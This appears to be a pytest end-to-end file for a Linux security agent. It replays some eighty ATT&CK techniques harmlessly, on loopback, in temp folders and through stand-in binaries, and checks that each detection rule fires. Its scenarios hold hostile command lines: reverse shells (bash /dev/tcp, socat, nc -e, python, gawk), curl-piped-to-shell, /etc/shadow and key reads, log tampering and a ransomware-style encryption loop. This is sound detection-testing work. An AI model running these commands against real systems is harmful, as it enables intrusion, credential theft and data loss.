"""Linux attack scenarios (issue 16): ATT&CK techniques re-enacted harmlessly on this machine, through the real
agent (eBPF process and network sensors, fanotify file sensor) and the real server, each with the alert it must
raise; a coverage table (technique, expected rule, alert raised, latency) is printed.

Harmless by construction: everything happens in a scenario folder under /tmp, in a folder of /var/log the test
creates, on loopback (a listener of the test's own that answers `exit` and hangs up), or on a test account and
group the test creates and removes. Commands that would change the machine (stopping auditd, flushing the
firewall, loading a module, wiping a disk, making a uid-0 account...) run as a *stand-in*: a copy of
/usr/bin/true under the tool's name in the scenario folder, so the agent sees the exec of `.../systemctl stop
auditd` with its command line and nothing happens. Real files the rules watch (/etc/shadow, crontabs, ssh
config) are only read, never written: the file rules are exercised on paths they also match (a
`.config/systemd/user` unit, an `authorized_keys`, a `.bashrc` in the scenario's fake home).
"""

from __future__ import annotations

import base64
import http.server
import json
import os
import pty
import select
import shutil
import socketserver
import subprocess
import sys
import threading
import time
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.e2e.agent_support import AgentProcess, wait_for
from tests.support import VigilServer, free_port

pytestmark = pytest.mark.root

RULES = Path(__file__).resolve().parents[2] / "src" / "vigil" / "content" / "rules" / "linux"
DOC = Path(__file__).resolve().parents[2] / "docs" / "linux-detection.md"
MAX_LATENCY = 5.0  # seconds from the act to its alert on the server
MIN_RAISED = 0.95
WAIT = 6.0  # how long a scenario waits for its alert before it counts as not raised
# Stand-ins have the shape of the real tool: a binary, a link to another binary (Debian's insmod is kmod, nc is
# nc.traditional or nc.openbsd) or a script (ufw is Python, aa-teardown shell), so that the rows are the real ones.
STAND_INS = ("systemctl", "crontab", "systemd-run", "at", "useradd", "usermod", "john", "chisel", "xmrig", "wipefs",
             "sudo", "kmod", "nc.traditional")
LINKED = {"insmod": "kmod", "nc": "nc.traditional"}
SCRIPTS = ("ufw", "aa-teardown")


@dataclass(frozen=True)
class Scenario:
    technique: str
    name: str
    rule: str  # the rule file's stem (src/vigil/content/rules/linux/<rule>.yml)
    act: Callable[[Lab], Any]
    needle: Callable[[Lab], str] | None = None  # a string the alert's evidence must hold


class Lab:
    """The scenario folder, its stand-ins, a loopback listener, a web server and an interactive bash on a pty."""

    def __init__(self, root: Path) -> None:
        self.marker = uuid.uuid4().hex[:8]
        self.root = root / f"scen-{self.marker}"
        self.bin = self.root / "bin"
        self.home = self.root / "home"
        self.www = self.root / "www"
        self.logs = Path(f"/var/log/vigil-scenario-{self.marker}")
        self.user = f"vigilsc{self.marker[:6]}"
        self.group = f"vigilsg{self.marker[:6]}"
        for d in (self.bin, self.home / ".ssh", self.www, self.root / "dl", self.root / "k", self.root / "data",
                  self.root / "data2", self.root / "data3", self.root / "dl2",
                  self.root / "suid", self.root / "etc" / "sudoers.d", self.root / "loot",
                  self.home / ".mozilla" / "firefox" / "x.default", self.root / "lib" / "security"):
            d.mkdir(parents=True, exist_ok=True)
        for tool in STAND_INS:
            shutil.copy("/usr/bin/true", self.bin / tool)
        for link, target in LINKED.items():
            (self.bin / link).symlink_to(target)
        for script in SCRIPTS:
            (self.bin / script).write_text("#!/bin/sh\nexit 0\n")
            (self.bin / script).chmod(0o755)
        shutil.copy("/usr/bin/true", self.www / "payload")
        (self.www / "i.sh").write_text("true\n")
        (self.www / "p.pl").write_text("1;\n")
        (self.home / ".bash_history").write_text("mysql -u root -pS3cret\n")
        (self.home / ".mozilla" / "firefox" / "x.default" / "logins.json").write_text("{}\n")
        (self.root / "etc" / "app.conf").write_text("password = hunter2\n")
        for i in range(12):
            (self.root / "data" / f"f{i}.txt").write_text(f"document {i}\n")
        (self.root / "data2" / "a.doc").write_text("doc\n")
        for i in range(12):
            (self.root / "data3" / f"r{i}.xlsx").write_text(f"sheet {i}\n")
        self.logs.mkdir()
        (self.logs / "auth.log").write_text("Dec  7 10:00:00 host sshd[1]: Accepted password for bob\n")
        self.closed_port = free_port()
        self.listener = _Listener()
        self.http = http.server.ThreadingHTTPServer(
            ("127.0.0.1", 0), lambda *a: http.server.SimpleHTTPRequestHandler(*a, directory=str(self.www)))
        threading.Thread(target=self.http.serve_forever, daemon=True).start()
        self.url = f"http://127.0.0.1:{self.http.server_address[1]}"
        self.shell_pid, self.shell_fd = pty.fork()
        if self.shell_pid == 0:
            os.execvp("bash", ["bash", "--norc", "--noprofile", "-i"])  # noqa: S606 (the interactive shell under test)
        threading.Thread(target=self._drain, daemon=True).start()

    @property
    def port(self) -> int:
        return self.listener.port

    def _drain(self) -> None:
        while True:
            try:
                if select.select([self.shell_fd], [], [], 0.2)[0] and not os.read(self.shell_fd, 65536):
                    return
            except OSError:
                return

    def run(self, *argv: str | Path, stdin: str | None = None, timeout: float = 10) -> int:
        """Run a command to its end (its whole process group is killed after `timeout`)."""
        p = subprocess.Popen([str(a) for a in argv], stdin=subprocess.PIPE, stdout=subprocess.DEVNULL,
                             stderr=subprocess.DEVNULL, text=True, cwd=self.root, start_new_session=True)
        try:
            p.communicate(stdin, timeout=timeout)
        except subprocess.TimeoutExpired:
            os.killpg(p.pid, 9)
        return p.wait()

    def sh(self, script: str, timeout: float = 10) -> int:
        return self.run("sh", "-c", script, timeout=timeout)

    def type(self, line: str) -> None:
        """Type a line into the interactive bash (a pty), as a person would."""
        os.write(self.shell_fd, line.encode() + b"\n")

    def stand_in(self, tool: str) -> str:
        return str(self.bin / tool)

    def close(self) -> None:
        try:
            os.kill(self.shell_pid, 9)
            os.waitpid(self.shell_pid, 0)
        except OSError:
            pass
        self.http.shutdown()
        self.listener.close()
        subprocess.run(["userdel", self.user], capture_output=True, check=False)
        subprocess.run(["groupdel", self.group], capture_output=True, check=False)
        subprocess.run(["chattr", "-i", str(self.root / "lockme")], capture_output=True, check=False)
        shutil.rmtree(self.logs, ignore_errors=True)
        shutil.rmtree(self.root, ignore_errors=True)


class _Listener:
    """A loopback TCP listener: every connection gets `exit` (so a shell handed the socket ends) and is closed."""

    def __init__(self) -> None:
        class Handler(socketserver.BaseRequestHandler):
            def handle(self) -> None:
                try:
                    self.request.sendall(b"exit\n")
                    self.request.settimeout(0.5)
                    self.request.recv(4096)
                except OSError:
                    pass

        self.server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.port = int(self.server.server_address[1])
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def _hidden_run(lab: Lab) -> int:
    (lab.root / ".cache-x").mkdir()
    shutil.copy(lab.root / "dl" / "payload", lab.root / ".cache-x" / ".kworker")
    return lab.run(lab.root / ".cache-x" / ".kworker")


def _dropper_chain(lab: Lab) -> int:
    payload = lab.root / "dl2" / "stage2"
    lab.run("wget", "-q", "-O", payload, f"{lab.url}/payload")
    lab.run("chmod", "755", payload)
    return lab.run(payload)


def _typed_discovery(lab: Lab) -> None:
    for line in ("id", "whoami", "uname -a", "hostname", "ps aux", "ip a", "cat /etc/os-release"):
        lab.type(line)
        time.sleep(0.05)


def _hex(text: str) -> str:
    return text.encode().hex()


S = Scenario
SCENARIOS: list[Scenario] = [
    # -- execution
    S("T1105", "curl saves a payload into /tmp", "proc_download_to_temp",
      lambda lab: lab.run("curl", "-s", "-o", lab.root / "dl" / "payload", f"{lab.url}/payload"),
      lambda lab: str(lab.root / "dl" / "payload")),
    S("T1222.002", "chmod +x on the download", "proc_chmod_exec_in_temp",
      lambda lab: lab.run("chmod", "+x", lab.root / "dl" / "payload"), lambda lab: str(lab.root / "dl" / "payload")),
    S("T1204.002", "the download run from /tmp", "proc_exec_from_temp_dir",
      lambda lab: lab.run(lab.root / "dl" / "payload", "--stage2"), lambda lab: str(lab.root / "dl" / "payload")),
    S("T1204.002", "wget -O /tmp/..., chmod 755, run: the dropper chain (correlation)", "corr_download_chmod_execute",
      _dropper_chain, lambda lab: str(lab.root / "dl2" / "stage2")),
    S("T1564.001", "a dot-named program run from a dot-folder in /tmp", "proc_exec_hidden_file_in_temp",
      lambda lab: _hidden_run(lab), lambda lab: ".kworker"),
    S("T1059.004", "typed: curl URL | sh", "proc_download_piped_to_shell",
      lambda lab: lab.type(f"curl -s {lab.url}/i.sh | sh"), lambda lab: f"{lab.url}/i.sh | sh"),
    S("T1140", "typed: echo <base64> | base64 -d | sh", "proc_base64_decode_to_shell",
      lambda lab: lab.type(f"echo {base64.b64encode(b'true').decode()} | base64 -d | sh"),
      lambda lab: "| base64 -d | sh"),
    S("T1140", "typed: echo <hex> | xxd -r -p | sh", "proc_decoded_payload_to_shell",
      lambda lab: lab.type(f"echo {_hex('true')} | xxd -r -p | sh"), lambda lab: "| xxd -r -p | sh"),
    S("T1059.006", "typed: curl URL | perl", "proc_payload_piped_to_interpreter",
      lambda lab: lab.type(f"curl -s {lab.url}/p.pl | perl"), lambda lab: f"{lab.url}/p.pl | perl"),
    S("T1027", "python exec(base64.b64decode(...))", "proc_interpreter_exec_encoded",
      lambda lab: lab.run(sys.executable, "-c", "import base64;exec(base64.b64decode('cGFzcw=='))"),
      lambda lab: "cGFzcw=="),
    # -- persistence
    S("T1053.003", "crontab installed from a file", "proc_crontab_install",
      lambda lab: lab.run(lab.stand_in("crontab"), lab.root / "cronfile"), lambda lab: str(lab.root / "cronfile")),
    S("T1053.006", "transient systemd timer (systemd-run --on-active)", "proc_systemd_run_timer",
      lambda lab: lab.run(lab.stand_in("systemd-run"), "--on-active=3600", "/usr/bin/true"),
      lambda lab: lab.stand_in("systemd-run")),
    S("T1543.002", "user systemd unit written", "file_systemd_unit_written",
      lambda lab: lab.sh(f"mkdir -p {lab.home}/.config/systemd/user && echo '[Service]' > "
                         f"{lab.home}/.config/systemd/user/vigil-{lab.marker}.service"),
      lambda lab: f"vigil-{lab.marker}.service"),
    S("T1543.002", "unit file linked from /tmp (systemctl link)", "proc_systemctl_enable_unit",
      lambda lab: lab.run(lab.stand_in("systemctl"), "link", lab.root / "upd.service"),
      lambda lab: str(lab.root / "upd.service")),
    S("T1098.004", "key appended to authorized_keys", "file_ssh_authorized_keys",
      lambda lab: lab.sh(f"echo 'ssh-ed25519 AAAAC3Nza vigil-{lab.marker}' >> {lab.home}/.ssh/authorized_keys"),
      lambda lab: f"{lab.home}/.ssh/authorized_keys"),
    S("T1546.004", "line appended to a .bashrc", "file_shell_profile_user",
      lambda lab: lab.sh(f"echo 'curl -s http://x | sh' >> {lab.home}/.bashrc"), lambda lab: f"{lab.home}/.bashrc"),
    S("T1574.006", "LD_PRELOAD set on a command line", "proc_ld_preload",
      lambda lab: lab.run("env", f"LD_PRELOAD=/nonexistent/vigil-{lab.marker}.so", "/usr/bin/true"),
      lambda lab: f"vigil-{lab.marker}.so"),
    S("T1546.017", "udev rule written", "file_udev_rule_written",
      lambda lab: lab.sh(f"mkdir -p {lab.root}/etc/udev/rules.d && echo 'RUN+=\"/bin/true\"' > "
                         f"{lab.root}/etc/udev/rules.d/99-vigil.rules"), lambda lab: "99-vigil.rules"),
    S("T1053.002", "at job queued", "proc_at_job_scheduled",
      lambda lab: lab.run(lab.stand_in("at"), "now", "+", "1", "minute"), lambda lab: lab.stand_in("at")),
    S("T1547.013", "XDG autostart entry written", "file_xdg_autostart_written",
      lambda lab: lab.sh(f"mkdir -p {lab.home}/.config/autostart && echo '[Desktop Entry]' > "
                         f"{lab.home}/.config/autostart/vigil.desktop"), lambda lab: "vigil.desktop"),
    S("T1556.003", "PAM module dropped", "file_pam_changed",
      lambda lab: lab.sh(f"cp /usr/bin/true {lab.root}/lib/security/pam_vigil.so"), lambda lab: "pam_vigil.so"),
    # -- accounts
    S("T1136.001", "local account created (useradd)", "proc_user_created",
      lambda lab: lab.run("useradd", "-M", "-N", "-r", "-s", "/usr/sbin/nologin", lab.user), lambda lab: lab.user),
    S("T1098", "password set from a script (chpasswd)", "proc_password_set_noninteractive",
      lambda lab: lab.run("chpasswd", stdin=f"{lab.user}:Scen4rio-{lab.marker}\n"), lambda lab: "chpasswd"),
    S("T1098", "user added to a privileged group (usermod -aG sudo, stand-in)", "proc_user_added_to_privileged_group",
      lambda lab: lab.run(lab.stand_in("usermod"), "-aG", "sudo", lab.user), lambda lab: lab.user),
    S("T1136.001", "second root account (useradd -o -u 0, stand-in)", "proc_uid0_account",
      lambda lab: lab.run(lab.stand_in("useradd"), "-o", "-u", "0", "-M", f"toor{lab.marker[:4]}"),
      lambda lab: f"toor{lab.marker[:4]}"),
    S("T1098", "local group created (groupadd)", "proc_group_created",
      lambda lab: lab.run("groupadd", lab.group), lambda lab: lab.group),
    # -- privilege escalation
    S("T1548.001", "setuid bit set (chmod u+s)", "proc_setuid_bit_set",
      lambda lab: (shutil.copy("/usr/bin/true", lab.root / "suid" / "sh"),
                   lab.run("chmod", "u+s", lab.root / "suid" / "sh")),
      lambda lab: str(lab.root / "suid" / "sh")),
    S("T1548", "capability cap_setuid granted (setcap)", "proc_setcap_privileged",
      lambda lab: (shutil.copy("/usr/bin/true", lab.root / "suid" / "py"),
                   lab.run("setcap", "cap_setuid+ep", lab.root / "suid" / "py")),
      lambda lab: str(lab.root / "suid" / "py")),
    S("T1548.003", "NOPASSWD rule echoed into a sudoers.d file", "proc_sudoers_edit_cmdline",
      lambda lab: lab.sh(f"echo 'nobody ALL=(ALL) NOPASSWD: ALL' >> {lab.root}/etc/sudoers.d/vigil"),
      lambda lab: f"{lab.root}/etc/sudoers.d/vigil"),
    S("T1068", "sudo -u#-1 (CVE-2019-14287, stand-in)", "proc_sudo_uid_bypass",
      lambda lab: lab.run(lab.stand_in("sudo"), "-u#-1", "/usr/bin/true"), lambda lab: lab.stand_in("sudo")),
    S("T1611", "nsenter into PID 1's namespaces", "proc_container_escape_nsenter",
      lambda lab: lab.run("nsenter", "-t", "1", "-m", "--", "/usr/bin/true"), lambda lab: "nsenter -t 1"),
    S("T1059.004", "shell through find -exec", "proc_shell_escape_via_tool",
      lambda lab: lab.run("find", lab.root, "-maxdepth", "0", "-exec", "/bin/sh", "-c", "true", ";"),
      lambda lab: f"find {lab.root} -maxdepth 0 -exec /bin/sh"),
    S("T1547.006", "kernel module from /tmp (insmod, stand-in)", "proc_kernel_module_loaded",
      lambda lab: lab.run(lab.stand_in("insmod"), lab.root / "rk.ko"), lambda lab: str(lab.root / "rk.ko")),
    # -- credential access
    S("T1003.008", "/etc/shadow read (cat)", "proc_shadow_file_read",
      lambda lab: lab.sh("cat /etc/shadow > /dev/null"), lambda lab: "/etc/shadow"),
    S("T1098.004", "passphrase-less key generated into /tmp (ssh-keygen)", "proc_ssh_keygen_unattended",
      lambda lab: lab.run("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", lab.home / ".ssh" / "id_ed25519"),
      lambda lab: str(lab.home / ".ssh" / "id_ed25519")),
    S("T1552.004", "SSH private key read (cat ~/.ssh/id_ed25519)", "proc_ssh_private_key_read",
      lambda lab: lab.run("cat", lab.home / ".ssh" / "id_ed25519"), lambda lab: str(lab.home / ".ssh" / "id_ed25519")),
    S("T1552.004", "search for private keys (find -name id_rsa)", "proc_private_key_search",
      lambda lab: lab.run("find", lab.root, "-name", "id_rsa"), lambda lab: f"find {lab.root} -name id_rsa"),
    S("T1552.001", "recursive grep for passwords", "proc_password_grep",
      lambda lab: lab.run("grep", "-rni", "password", lab.root / "etc"), lambda lab: str(lab.root / "etc")),
    S("T1555.003", "Firefox logins.json copied", "proc_browser_credential_store",
      lambda lab: lab.run("cp", lab.home / ".mozilla" / "firefox" / "x.default" / "logins.json", lab.root / "loot"),
      lambda lab: str(lab.root / "loot")),
    S("T1003.007", "process memory read (dd if=/proc/self/mem)", "proc_process_memory_access",
      lambda lab: lab.run("dd", "if=/proc/self/mem", "bs=1", "count=0"), lambda lab: "if=/proc/self/mem"),
    S("T1552.003", "shell history read", "proc_shell_history_read",
      lambda lab: lab.run("cat", lab.home / ".bash_history"), lambda lab: f"{lab.home}/.bash_history"),
    S("T1110.002", "password cracker run (john, stand-in)", "proc_password_cracker",
      lambda lab: lab.run(lab.stand_in("john"), "--wordlist=/dev/null", lab.root / "hashes"),
      lambda lab: lab.stand_in("john")),
    # -- defence evasion
    S("T1070.003", "history linked to /dev/null (ln -sf)", "proc_history_file_tampering",
      lambda lab: lab.run("ln", "-sf", "/dev/null", lab.home / ".zsh_history"), lambda lab: f"{lab.home}/.zsh_history"),
    S("T1070.003", "history file deleted (rm)", "file_history_deleted",
      lambda lab: lab.run("rm", "-f", lab.home / ".bash_history"), lambda lab: f"{lab.home}/.bash_history"),
    S("T1562.003", "HISTFILE unset", "proc_history_disabled",
      lambda lab: lab.run("bash", "-c", f"unset HISTFILE; true {lab.marker}"), lambda lab: f"true {lab.marker}"),
    S("T1070.002", "auth.log truncated", "proc_log_tampering",
      lambda lab: lab.run("truncate", "-s", "0", lab.logs / "auth.log"), lambda lab: str(lab.logs / "auth.log")),
    S("T1070.002", "auth.log deleted", "file_log_deleted",
      lambda lab: lab.run("rm", "-f", lab.logs / "auth.log"), lambda lab: str(lab.logs / "auth.log")),
    S("T1070.006", "timestomping (touch -r /bin/ls)", "proc_timestomp",
      lambda lab: lab.run("touch", "-r", "/bin/ls", lab.root / "stamp"), lambda lab: str(lab.root / "stamp")),
    S("T1564.001", "hidden file created in /tmp", "file_hidden_file_in_temp",
      lambda lab: lab.sh(f"echo x > {lab.root}/.kx"), lambda lab: f"{lab.root}/.kx"),
    S("T1562.012", "auditd stopped (systemctl, stand-in)", "proc_disable_auditd",
      lambda lab: lab.run(lab.stand_in("systemctl"), "stop", "auditd"), lambda lab: "stop auditd"),
    S("T1562.004", "firewall disabled (ufw disable, stand-in)", "proc_disable_firewall",
      lambda lab: lab.run(lab.stand_in("ufw"), "disable"), lambda lab: lab.stand_in("ufw")),
    S("T1562.001", "AppArmor torn down (aa-teardown, stand-in)", "proc_disable_mac",
      lambda lab: lab.run(lab.stand_in("aa-teardown")), lambda lab: lab.stand_in("aa-teardown")),
    S("T1562.001", "security agent signalled (pkill -0 -x osqueryd)", "proc_security_tool_killed",
      lambda lab: lab.run("pkill", "-0", "-x", "osqueryd"), lambda lab: "osqueryd"),
    S("T1222.002", "immutable flag set (chattr +i)", "proc_immutable_attribute",
      lambda lab: ((lab.root / "lockme").write_text("x"), lab.run("chattr", "+i", lab.root / "lockme"),
                   lab.run("chattr", "-i", lab.root / "lockme")), lambda lab: str(lab.root / "lockme")),
    # -- discovery
    S("T1082", "burst of discovery commands", "proc_discovery_burst_cmdline",
      lambda lab: lab.sh(f"id; uname -a; hostname; cat /etc/passwd > /dev/null; true {lab.marker}"),
      lambda lab: f"true {lab.marker}"),
    S("T1033", "typed: id, whoami, uname -a, hostname, ps aux, ip a, cat /etc/os-release (correlation)",
      "corr_discovery_burst", _typed_discovery, lambda lab: f'"InitiatingProcessId": "{lab.shell_pid}"'),
    S("T1083", "setuid search (find -perm -4000)", "proc_suid_search",
      lambda lab: lab.run("find", lab.root, "-perm", "-4000"), lambda lab: f"find {lab.root} -perm -4000"),
    S("T1083", "capabilities search (getcap -r)", "proc_capabilities_search",
      lambda lab: lab.run("getcap", "-r", lab.root), lambda lab: f"getcap -r {lab.root}"),
    S("T1082", "enumeration script (linpeas.sh)", "proc_enumeration_script",
      lambda lab: ((lab.root / "linpeas.sh").write_text("true\n"), lab.run("sh", lab.root / "linpeas.sh")),
      lambda lab: str(lab.root / "linpeas.sh")),
    # -- lateral movement
    S("T1021.004", "ssh with a key from /tmp", "proc_ssh_with_new_key",
      lambda lab: lab.run("ssh", "-i", lab.home / ".ssh" / "id_ed25519", "-o", "BatchMode=yes", "-o",
                          "ConnectTimeout=1", "-p", str(lab.closed_port), "127.0.0.1", "true"),
      lambda lab: str(lab.home / ".ssh" / "id_ed25519")),
    S("T1021.004", "ssh with host-key checking off", "proc_ssh_host_key_checks_off",
      lambda lab: lab.run("ssh", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o",
                          "BatchMode=yes", "-p", str(lab.closed_port), "127.0.0.1", "true"),
      lambda lab: f"-p {lab.closed_port}"),
    S("T1572", "ssh remote port forward (-R)", "proc_ssh_tunnel",
      lambda lab: lab.run("ssh", "-N", "-R", "9999:127.0.0.1:22", "-o", "BatchMode=yes", "-p",
                          str(lab.closed_port), "127.0.0.1"), lambda lab: "-R 9999:127.0.0.1:22"),
    # -- command and control (loopback)
    S("T1095", "typed: bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1 (the shell's own connection)",
      "net_shell_outbound_connection", lambda lab: lab.type(f"bash -i >& /dev/tcp/127.0.0.1/{lab.port} 0>&1"),
      lambda lab: str(lab.port)),
    S("T1059.004", "bash -c 'bash -i >& /dev/tcp/...'", "proc_reverse_shell_dev_tcp",
      lambda lab: lab.run("bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{lab.port} 0>&1", timeout=5),
      lambda lab: f"/dev/tcp/127.0.0.1/{lab.port}"),
    S("T1059.004", "socat TCP:... EXEC:", "proc_reverse_shell_socat",
      lambda lab: lab.run("socat", f"TCP:127.0.0.1:{lab.port}", "EXEC:/bin/true", timeout=5),
      lambda lab: f"TCP:127.0.0.1:{lab.port}"),
    S("T1059.004", "nc -e /bin/sh (stand-in)", "proc_reverse_shell_netcat_exec",
      lambda lab: lab.run(lab.stand_in("nc"), "-e", "/bin/sh", "127.0.0.1", str(lab.port)),
      lambda lab: lab.stand_in("nc")),
    S("T1059.006", "python socket + subprocess one-liner", "proc_reverse_shell_python_socket",
      lambda lab: lab.run(sys.executable, "-c", f"import socket,subprocess;s=socket.create_connection(('127.0.0.1',"
                          f"{lab.port}));subprocess.call(['/bin/true'],stdin=s.fileno(),stdout=s.fileno())", timeout=5),
      lambda lab: f"{lab.port}));subprocess.call"),
    S("T1059", "gawk /inet/tcp one-liner", "proc_reverse_shell_other_interpreters",
      lambda lab: lab.run("gawk", f'BEGIN{{s="/inet/tcp/0/127.0.0.1/{lab.port}"; print "x" |& s; close(s)}}',
                          timeout=5), lambda lab: f"/inet/tcp/0/127.0.0.1/{lab.port}"),
    S("T1059.004", "named-pipe reverse shell (mkfifo, sh -i, socat)", "proc_reverse_shell_fifo",
      lambda lab: lab.sh(f"cd {lab.root} && mkfifo f && cat f | sh -i 2>&1 | socat - TCP:127.0.0.1:{lab.port} > f",
                         timeout=5), lambda lab: "mkfifo f"),
    S("T1095", "typed: socat - TCP:127.0.0.1:PORT | sh", "proc_network_client_piped_to_shell",
      lambda lab: lab.type(f"socat - TCP:127.0.0.1:{lab.port} | sh"), lambda lab: f"TCP:127.0.0.1:{lab.port} | sh"),
    S("T1572", "chisel client (stand-in)", "proc_tunnelling_tool",
      lambda lab: lab.run(lab.stand_in("chisel"), "client", "127.0.0.1:1", "R:socks"),
      lambda lab: lab.stand_in("chisel")),
    S("T1090.001", "socat port forward on loopback", "proc_socat_port_forward",
      lambda lab: lab.run("timeout", "1", "socat", f"TCP-LISTEN:{lab.closed_port},bind=127.0.0.1,fork",
                          f"TCP:127.0.0.1:{lab.port}", timeout=5), lambda lab: f"TCP-LISTEN:{lab.closed_port}"),
    # -- impact
    S("T1496", "miner command line (xmrig, stand-in)", "proc_coin_miner",
      lambda lab: lab.run(lab.stand_in("xmrig"), "-o", "stratum+tcp://127.0.0.1:3333", "--donate-level", "1"),
      lambda lab: lab.stand_in("xmrig")),
    S("T1486", "files encrypted in a shell loop (openssl enc)", "proc_bulk_encryption",
      lambda lab: lab.sh(f'for f in {lab.root}/data/*.txt; do openssl enc -aes-256-cbc -pbkdf2 -pass pass:x '
                         f'-in "$f" -out "$f.locked" && rm "$f"; done', timeout=20), lambda lab: f"{lab.root}/data/"),
    S("T1486", "file renamed to .crypt", "file_ransomware_extension",
      lambda lab: lab.run("mv", lab.root / "data2" / "a.doc", lab.root / "data2" / "a.doc.crypt"),
      lambda lab: "a.doc.crypt"),
    S("T1486", "12 files renamed to .locked in a shell loop (correlation)", "corr_mass_ransomware_renames",
      lambda lab: lab.sh(f'for f in {lab.root}/data3/*; do mv "$f" "$f.locked"; done'), lambda lab: "data3"),
    S("T1486", "ransom note written", "file_ransom_note",
      lambda lab: lab.sh(f"echo 'pay up' > {lab.root}/data/HOW_TO_DECRYPT.txt"), lambda lab: "HOW_TO_DECRYPT.txt"),
    S("T1561.001", "disk wipe (wipefs -a, stand-in)", "proc_data_destruction",
      lambda lab: lab.run(lab.stand_in("wipefs"), "-a", "/dev/sdz"), lambda lab: lab.stand_in("wipefs")),
    S("T1531", "test account deleted (userdel)", "proc_account_deleted_or_locked",
      lambda lab: lab.run("userdel", lab.user), lambda lab: lab.user),
]


# Programs a scenario needs beyond coreutils, by its rule: where one is missing the scenario is not run (and not
# counted), and the table says why.
NEEDS: dict[str, tuple[str, ...]] = {
    "proc_download_to_temp": ("curl",), "proc_download_piped_to_shell": ("curl",),
    "proc_decoded_payload_to_shell": ("xxd",), "proc_payload_piped_to_interpreter": ("curl", "perl"),
    "corr_download_chmod_execute": ("wget",), "proc_ssh_keygen_unattended": ("ssh-keygen",),
    "proc_ssh_private_key_read": ("ssh-keygen",), "proc_ssh_with_new_key": ("ssh", "ssh-keygen"),
    "proc_ssh_host_key_checks_off": ("ssh",), "proc_ssh_tunnel": ("ssh",), "proc_reverse_shell_socat": ("socat",),
    "proc_reverse_shell_fifo": ("socat", "mkfifo"), "proc_network_client_piped_to_shell": ("socat",),
    "proc_socat_port_forward": ("socat", "timeout"), "proc_reverse_shell_other_interpreters": ("gawk",),
    "proc_setcap_privileged": ("setcap",), "proc_capabilities_search": ("getcap",),
    "proc_immutable_attribute": ("chattr",), "proc_container_escape_nsenter": ("nsenter",),
    "proc_user_created": ("useradd",), "proc_password_set_noninteractive": ("useradd", "chpasswd"),
    "proc_group_created": ("groupadd",), "proc_account_deleted_or_locked": ("useradd", "userdel"),
    "proc_bulk_encryption": ("openssl",), "proc_security_tool_killed": ("pkill",),
    "corr_discovery_burst": ("ip", "ps", "hostname"),
}


def _missing(s: Scenario) -> list[str]:
    return [t for t in NEEDS.get(s.rule, ()) if shutil.which(t) is None]


def _rule_ids() -> dict[str, dict[str, Any]]:
    return {p.stem: yaml.safe_load(p.read_text()) for p in RULES.glob("*.yml")}


def test_every_scenario_names_a_rule_of_the_pack_and_the_docs_list_them() -> None:
    rules = _rule_ids()
    assert len({s.technique for s in SCENARIOS}) >= 40
    assert len({s.rule for s in SCENARIOS}) == len(SCENARIOS)  # NEEDS is keyed by rule
    assert set(NEEDS) <= {s.rule for s in SCENARIOS}
    doc = DOC.read_text()
    for s in SCENARIOS:
        assert s.rule in rules, s.rule
        name = s.name.replace("|", "\\|")
        assert f"| {s.technique} | {name} | {rules[s.rule]['title']} |" in doc, f"docs lack scenario {s.name!r}"


def _when(iso: str | None) -> float:
    return datetime.fromisoformat(iso.replace("Z", "+00:00")).timestamp() if iso else 0.0


@pytest.fixture
def lab(tmp_path: Path) -> Iterator[Lab]:
    lab = Lab(tmp_path)
    try:
        yield lab
    finally:
        lab.close()


def test_linux_attack_scenarios_raise_their_alerts(
    sqlite_server: VigilServer, agent: AgentProcess, lab: Lab, capsys: pytest.CaptureFixture[str]
) -> None:
    server, token = sqlite_server, sqlite_server.admin_token()
    rules = _rule_ids()

    def health() -> dict[str, Any]:
        with server.client(token) as c:
            return dict(c.get(f"/api/machines/{agent.device_id}").json().get("sensorHealth") or {})

    wait_for(lambda: {"process", "network", "file"} <= set(health()), 30, f"sensor health (log: {agent.log})")
    h = health()
    if "eBPF" not in str(h.get("process")) or "eBPF" not in str(h.get("network")):
        pytest.skip(f"the eBPF sensors did not load here: process={h.get('process')!r} network={h.get('network')!r}")
    if not str(h.get("file", "")).startswith("active"):
        pytest.skip(f"the file sensor (fanotify) is not active here: {h.get('file')!r}")
    time.sleep(1.0)  # the interactive shell's start-up rows have gone by

    def alerts() -> list[dict[str, Any]]:
        with server.client(token) as c:
            return list(c.get("/api/alerts", params={"machineId": agent.device_id}).json()["value"])

    rows: list[tuple[Scenario, str, float | None, str]] = []
    for s in SCENARIOS:
        missing = _missing(s)
        if missing:
            rows.append((s, rules[s.rule]["title"], None, f"not run: {', '.join(missing)} not installed"))
            continue
        rule_id = rules[s.rule]["id"]
        needle = s.needle(lab) if s.needle else None
        t0 = time.time()
        s.act(lab)

        def raised(rule_id: str = rule_id, needle: str | None = needle, t0: float = t0) -> bool:
            for a in alerts():
                if a["detectorId"] != rule_id or _when(a["lastEventTime"]) < t0 - 0.3:
                    continue
                ev = a["evidence"]
                if needle is None or needle in json.dumps(ev) or needle in str(ev) or len(ev) >= 20:
                    return True
            return False

        seen = None
        while time.time() - t0 < WAIT:
            if raised():
                seen = time.time() - t0
                break
            time.sleep(0.1)
        rows.append((s, rules[s.rule]["title"], seen, "yes" if seen is not None else "NO"))

    width = max(len(s.name) for s in SCENARIOS)
    lines = [f"{'technique':<10} {'scenario':<{width}}  {'expected rule':<62} {'raised':<6} latency"]
    for s, title, seen, status in rows:
        lines.append(f"{s.technique:<10} {s.name:<{width}}  {title[:62]:<62} {status:<6} "
                     f"{f'{seen:.2f} s' if seen is not None else '-'}")
    run = [r for r in rows if not r[3].startswith("not run")]
    ok = [r for r in run if r[2] is not None]
    lines.append(f"{len(ok)}/{len(run)} raised ({len(ok) / len(run):.0%}; {len(rows) - len(run)} not run), "
                 f"{len({r[0].technique for r in ok})} techniques raised, slowest "
                 f"{max((r[2] or 0) for r in rows):.2f} s")
    with capsys.disabled():
        print("\n" + "\n".join(lines))
    assert len(run) >= 40, "too few scenarios could run here: " + "; ".join(r[3] for r in rows if r not in run)
    missed = [f"{s.technique} {s.name} ({title})" for s, title, seen, _ in run if seen is None]
